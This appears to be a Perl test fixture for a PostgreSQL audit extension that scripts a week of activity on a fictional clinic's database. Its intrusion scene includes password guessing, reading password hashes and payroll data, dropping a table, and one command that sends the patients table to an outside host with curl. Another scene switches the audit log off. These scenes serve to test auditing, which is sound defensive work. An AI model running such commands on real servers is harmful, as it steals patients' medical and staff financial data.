
# A week of a clinic's server, from Friday, 30 October, to Saturday, 7 November 2026: the trail that the questions in
# docs/cookbook.md are asked of.
#
# The server is told the time by t/faults.c: each scene begins at its own time.  Everything happens in one order, so that
# two runs have the same records; cookbook_is_right.pl lists what differs.

package Steno::Clinic;

use strict;
use warnings;

use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Steno;
use Steno::Client;
use Steno::Faults;
use Steno::Seals;
use Time::Local 'timegm';

# As which applications, and from which addresses with which passwords, users connect.
my %users = (
	postgres => { application_name => 'psql' },
	monitor => { application_name => 'monitoring' },
	olga => { application_name => 'psql' },
	dmitri => { application_name => 'migrate' },
	clinic_app => { application_name => 'clinic-web', address => '127.0.0.11', password => 'pool' },
	billing => { application_name => 'billing', address => '127.0.0.12', password => 'cash' },
	reports => { application_name => 'night-report', address => '127.0.0.21', password => 'report4u' },
	tom => { application_name => 'DBeaver', address => '127.0.0.31', password => 'tom' });
my %intruder = (application_name => 'psql', address => '127.0.0.66');
my $endless = 'SELECT count(*) FROM lab_results a, lab_results b, lab_results c';

# The server after that week, on Saturday morning; with a statement that does not end.
sub new
{
	my ($class) = @_;
	my $folder = PostgreSQL::Test::Utils::tempdir();
	my $self = bless { faults => Steno::Faults->new, key => keygen("$folder/2026.key") }, $class;

	$self->{node} = new_node(
		'clinic',
		start => 0,
		initdb => [ '-U', 'postgres' ],
		conf => qq{
listen_addresses = '127.0.0.1'
cluster_name = 'clinic'
deadlock_timeout = 100ms
restart_after_crash = on
max_parallel_workers_per_gather = 0
steno.flush_interval = 1s
steno.rotation_age = 0
steno.seal_interval = 0
steno.signing_key_file = '$self->{key}'
});
	my $data = $self->{node}->data_dir;

	# monitoring may ask as often as it must
	append_to_file("$data/pg_steno_rules.conf", "skip monitor all all all all all\n");
	unlink "$data/pg_hba.conf";
	append_to_file("$data/pg_hba.conf", "local all all trust\nhost clinic all 127.0.0.0/8 password\n");
	$self->at('2026-10-30 18:00');
	$self->{faults}->start($self->{node});
	$self->$_ foreach qw(set_up monday tuesday wednesday thursday_night thursday thursday_evening friday saturday);
	return $self;
}

# From now on, the server's clock shows this time, and goes on.
sub at
{
	my ($self, $time) = @_;
	my ($year, $month, $day, $hour, $minute) = split /[-: ]/, $time;

	$self->{faults}->set('clock_of_all', timegm(0, $minute, $hour, $day, $month - 1, $year) - time);
	return;
}

# What was recorded so far is in the trail, and so is the start of the writers.
sub flush_trail
{
	my ($self) = @_;

	wait_until 'it is in the trail', sub { !$self->{monitor}->query('SELECT steno.flush()')->{sqlstate} };
	return;
}

# A day ends with its segment.
sub end_of_day
{
	my ($self) = @_;

	$self->{monitor}->query('SELECT steno.rotate()');
	return;
}

# A session; facts that are given replace those of the user.
sub session
{
	my ($self, $user, %facts) = @_;
	my %all = (user => $user, database => 'clinic', %{ $users{$user} // {} }, %facts);

	return Steno::Client->new($self->{node}, tcp => defined $all{address}, %all);
}

# What a user does in a session of its own.
sub does
{
	my ($self, $user, @statements) = @_;
	my $session = $self->session($user);

	$session->query($_) foreach @statements;
	$session->quit;
	return;
}

# One request of the application: a transaction of an end user.
sub request
{
	my ($pool, $end_user, $number, @statements) = @_;

	$pool->query('BEGIN');
	$pool->extended(q{SELECT set_config('steno.app_user', $1, true), set_config('steno.app_context', $2, true)},
		$end_user, "request $number");
	$pool->extended(@$_) foreach @statements;
	$pool->query('COMMIT');
	return;
}

# Until monitoring sees it.
sub wait_for
{
	my ($self, $what, $sql) = @_;

	wait_until $what, sub { $self->{monitor}->value($sql) };
	return;
}

# A statement that waits for a lock, or does not end.
sub starts
{
	my ($self, $session, $statement, $state) = @_;

	$session->put('Q', "$statement\0")->send_all;
	$self->wait_for("it is $state", $state eq 'waiting'
		? "SELECT count(*) FROM pg_locks WHERE pid = $session->{pid} AND NOT granted"
		: "SELECT count(*) FROM steno.in_flight WHERE pid = $session->{pid}");
	return;
}

my @schema = split /;\n(?=\S)/, q{CREATE TABLE patients (id int PRIMARY KEY, name text, born date, diagnosis text, phone text);
CREATE TABLE appointments (id serial PRIMARY KEY, patient int REFERENCES patients, doctor text, at timestamptz);
CREATE TABLE lab_results (id int, patient int, test text, value numeric);
CREATE TABLE invoices (id int PRIMARY KEY, patient int, amount numeric CHECK (amount > 0), paid bool DEFAULT false);
CREATE TABLE appointments_2025 (LIKE appointments);
CREATE SCHEMA hr;
CREATE TABLE hr.payroll (person text PRIMARY KEY, salary numeric, iban text);
INSERT INTO patients SELECT i, 'patient ' || i, '1960-01-01'::date + i * 50, (ARRAY['J45', 'E11', 'F32', 'I10'])[i % 4 + 1], '555-' || i FROM generate_series(1, 400) i;
INSERT INTO lab_results SELECT i, i % 400 + 1, 'HbA1c', 5 + i % 40 / 10.0 FROM generate_series(1, 12000) i;
INSERT INTO invoices SELECT i, i, 80 + i % 30 FROM generate_series(1, 400) i;
INSERT INTO hr.payroll VALUES ('haas', 9800, 'DE02'), ('kim', 4100, 'DE03');
CREATE FUNCTION admit(who int, name text, diagnosis text) RETURNS void LANGUAGE plpgsql AS $$
  BEGIN
    INSERT INTO patients (id, name, diagnosis) VALUES (who, name, diagnosis);
    INSERT INTO appointments (patient, doctor, at) VALUES (who, 'haas', '2026-11-09 09:00+00');
  END $$;
CREATE FUNCTION price(invoice int) RETURNS numeric LANGUAGE plpgsql AS $$
  BEGIN RETURN (SELECT amount FROM invoices WHERE id = invoice); END $$;
GRANT USAGE ON SCHEMA hr TO billing, reports;
GRANT SELECT, INSERT, UPDATE ON patients, appointments, lab_results TO clinic_app;
GRANT USAGE ON ALL SEQUENCES IN SCHEMA public TO clinic_app;
GRANT SELECT, UPDATE ON invoices TO clinic_app;
GRANT SELECT, INSERT, UPDATE, DELETE ON invoices TO billing;
GRANT SELECT, UPDATE ON hr.payroll TO billing;
GRANT SELECT ON patients, lab_results, invoices TO reports;
GRANT SELECT ON appointments, appointments_2025 TO tom};

# Friday evening: a database is made.
sub set_up
{
	my ($self) = @_;
	my $s = $self->session('postgres', database => 'postgres');

	$s->query($_) foreach (
		'CREATE ROLE monitor LOGIN SUPERUSER', 'CREATE ROLE olga LOGIN SUPERUSER', 'CREATE ROLE clinic_owner',
		'CREATE ROLE dmitri LOGIN IN ROLE clinic_owner',
		map({ "CREATE ROLE $_ LOGIN PASSWORD '$users{$_}{password}'" } qw(clinic_app billing reports tom)),
		'ALTER ROLE billing SET deadlock_timeout = 600000',
		'CREATE DATABASE clinic OWNER clinic_owner');
	$s->quit;
	$self->{monitor} = $self->session('monitor');
	$self->does('postgres', 'CREATE EXTENSION pg_steno', 'GRANT USAGE ON SCHEMA steno TO PUBLIC',
		'GRANT EXECUTE ON FUNCTION steno.note(text) TO PUBLIC', 'ALTER SCHEMA public OWNER TO clinic_owner');
	$self->does('dmitri', 'SET ROLE clinic_owner', @schema);
	$self->end_of_day;
	return;
}

sub monday
{
	my ($self) = @_;
	my ($pool, $billing);

	$self->at('2026-11-02 09:00');
	$pool = $self->{pool} = $self->session('clinic_app');
	request($pool, 'dr.haas', 4711, [ 'SELECT name, diagnosis FROM patients WHERE id = $1', 17 ]);
	request($pool, 'nurse.kim', 4712, [ 'UPDATE patients SET phone = $1 WHERE id = $2', '555-0199', 17 ]);
	request($pool, 'dr.haas', 4713, [ 'SELECT admit($1, $2, $3)', 401, 'Ruth Abel', 'G43' ]);
	request($pool, 'nurse.kim', 4714, [ 'INSERT INTO appointments (patient, doctor) VALUES ($1, $2)', 999, 'haas' ]);

	# a request that asks for each patient alone
	request($pool, 'nurse.kim', 4715,
		map { [ 'SELECT test, value FROM lab_results WHERE patient = $1 AND id < 400', $_ ] } 20 .. 44);

	$self->at('2026-11-02 10:00');
	$billing = $self->session('billing');
	$billing->extended('SELECT price($1)', $_) foreach 11 .. 15;
	$billing->extended('UPDATE invoices SET paid = true WHERE id = $1', 11);
	$billing->extended('INSERT INTO invoices (id, patient, amount) VALUES ($1, $2, $3)', 501, 17, '-80.00');
	$billing->query(q{UPDATE hr.payroll SET salary = 4300 WHERE person = 'kim'});
	$billing->quit;
	$self->end_of_day;
	return;
}

sub tuesday
{
	my ($self) = @_;

	$self->at('2026-11-03 02:00');
	$self->does('reports', 'SELECT diagnosis, count(*) FROM patients GROUP BY diagnosis ORDER BY 1',
		'COPY (SELECT patient, test, value FROM lab_results) TO STDOUT');
	$self->at('2026-11-03 11:00');
	$self->does('tom', 'SELECT doctor, at FROM appointments', 'SELECT * FROM patients', 'SELEC doctor FROM appointments');
	$self->end_of_day;
	return;
}

# A release: its first migration fails and is rolled back.
sub wednesday
{
	my ($self) = @_;

	$self->at('2026-11-04 18:30');
	request($self->{pool}, 'dr.haas', 5020, [ 'SELECT name, diagnosis FROM patients WHERE id = $1', 401 ]);
	$self->does('dmitri', q{SELECT steno.note('release 2.4 begins')}, 'SET ROLE clinic_owner',
		'BEGIN', 'ALTER TABLE patients ADD COLUMN insurer text',
		q{UPDATE patients SET insurer = 'AOK' WHERE id % 2 = 0}, 'ALTER TABLE patients ALTER COLUMN insurer SET NOT NULL', 'ROLLBACK',
		'BEGIN', 'ALTER TABLE patients ADD COLUMN insurer text', 'CREATE INDEX ON appointments (patient)',
		q{CREATE OR REPLACE FUNCTION price(invoice int) RETURNS numeric LANGUAGE plpgsql AS $$
  BEGIN PERFORM pg_sleep(0.3); RETURN (SELECT amount FROM invoices WHERE id = invoice); END $$},
		'GRANT SELECT ON hr.payroll TO reports', 'COMMIT', q{SELECT steno.note('release 2.4 is live')});
	$self->end_of_day;
	return;
}

# At 03:12, a process is killed while others work: the server restarts.
sub thursday_night
{
	my ($self) = @_;
	my ($reports, $billing, $start);

	$self->at('2026-11-05 03:11');
	$reports = $self->session('reports');
	$billing = $self->session('billing');
	$billing->query('BEGIN');
	$billing->query('UPDATE invoices SET paid = true WHERE id = 12');
	$self->flush_trail;
	$self->starts($reports, $endless, 'running');
	$self->at('2026-11-05 03:12');
	$start = -s $self->{node}->logfile;
	kill 'KILL', $reports->{pid};
	$self->{node}->wait_for_log(qr/ready to accept connections/, $start);
	$self->{monitor} = $self->session('monitor');
	$self->flush_trail;
	return;
}

sub thursday
{
	my ($self) = @_;
	my ($billing, $pool, $migration, $reports);

	$self->at('2026-11-05 10:00');
	$billing = $self->session('billing');
	$pool = $self->{pool} = $self->session('clinic_app');
	$billing->extended('SELECT price($1)', $_) foreach 13 .. 15;

	# a deadlock, which ends the application's transaction: billing has the longer deadlock_timeout
	$self->at('2026-11-05 10:20');
	$pool->query('BEGIN');
	$pool->extended(q{SELECT set_config('steno.app_user', $1, true), set_config('steno.app_context', $2, true)}, 'nurse.kim', 'request 6001');
	$pool->extended('UPDATE invoices SET paid = true WHERE id = $1', 8);
	$billing->query('BEGIN');
	$billing->query('UPDATE invoices SET amount = 95 WHERE id = 7');
	$self->starts($billing, 'UPDATE invoices SET amount = 95 WHERE id = 8', 'waiting');
	$pool->extended('UPDATE invoices SET paid = true WHERE id = $1', 7);
	$pool->query('ROLLBACK');
	$billing->finish;

	# the migration does not get its lock
	$self->at('2026-11-05 10:40');
	$self->does('dmitri', 'SET ROLE clinic_owner', q{SET lock_timeout = '100ms'}, 'ALTER TABLE invoices ADD COLUMN due date');
	$billing->query('COMMIT');
	$billing->quit;
	$self->does('reports', q{SET statement_timeout = '100ms'}, $endless);
	return;
}

# Somebody tries passwords, finds one, looks around, and takes what it gets.
sub thursday_evening
{
	my ($self) = @_;
	my $s;

	$self->at('2026-11-05 23:40');
	$self->session($$_[0], %intruder, password => $$_[1])
	  foreach [qw(admin admin)], [qw(postgres postgres)], [qw(olga 123456)], [qw(reports reports)], [qw(reports report)];
	$s = $self->session('reports', %intruder);
	$s->query($_) foreach ('SELECT current_user, version()', 'SELECT rolname, rolpassword FROM pg_authid',
		'SELECT person, salary, iban FROM hr.payroll', q{COPY patients TO PROGRAM 'curl -T - http://127.0.0.99'},
		'SELECT name, born, diagnosis, phone FROM patients', 'COPY lab_results TO STDOUT', 'DROP TABLE invoices');
	$s->quit;
	$self->end_of_day;
	return;
}

# A break-glass session; the trail is switched off for a while; a table is dropped.
sub friday
{
	my ($self) = @_;
	my $olga;

	$self->at('2026-11-06 11:00');
	$self->does('olga', q{SELECT steno.note('INC-7 reports is used from a strange address')},
		'ALTER ROLE reports NOLOGIN', 'SET ROLE clinic_owner', 'REVOKE SELECT ON hr.payroll FROM reports',
		'SELECT id, diagnosis FROM patients WHERE id = 17',
		'BEGIN', q{UPDATE patients SET diagnosis = 'F33' WHERE id = 17}, 'ROLLBACK');

	$self->at('2026-11-06 16:00');
	$self->does('olga', q{ALTER SYSTEM SET steno.log = 'none'}, 'SELECT pg_reload_conf()');
	$self->wait_for('it is off', q{SELECT (current_setting('steno.log') = 'none')::int});
	$self->flush_trail;
	$self->at('2026-11-06 16:05');
	$self->does('billing', 'SELECT person, salary FROM hr.payroll', q{UPDATE hr.payroll SET salary = 9900 WHERE person = 'haas'});
	$self->at('2026-11-06 16:20');
	$self->does('olga', 'ALTER SYSTEM RESET steno.log', 'SELECT pg_reload_conf()');
	$self->wait_for('it is on', q{SELECT (current_setting('steno.log') = 'all')::int});
	$self->flush_trail;

	$self->at('2026-11-06 17:00');
	$self->does('dmitri', 'SET ROLE clinic_owner', 'DROP TABLE appointments_2025');
	$self->does('tom', 'SELECT count(*) FROM appointments_2025');
	$self->end_of_day;
	return;
}

sub saturday
{
	my ($self) = @_;

	$self->at('2026-11-07 09:00');
	$self->does('olga', 'CREATE ROLE ana LOGIN', 'GRANT pg_monitor TO ana',
		'GRANT SELECT ON steno.in_flight TO ana', 'GRANT EXECUTE ON FUNCTION steno.in_flight(), steno.trail TO ana');
	request($self->{pool}, 'dr.haas', 7001, [ 'SELECT name, diagnosis FROM patients WHERE id = $1', 17 ]);
	$self->{long} = $self->session('dmitri');
	$self->{long}->query('SET ROLE clinic_owner');
	$self->starts($self->{long}, $endless, 'running');
	$self->end_of_day;
	return;
}

1;
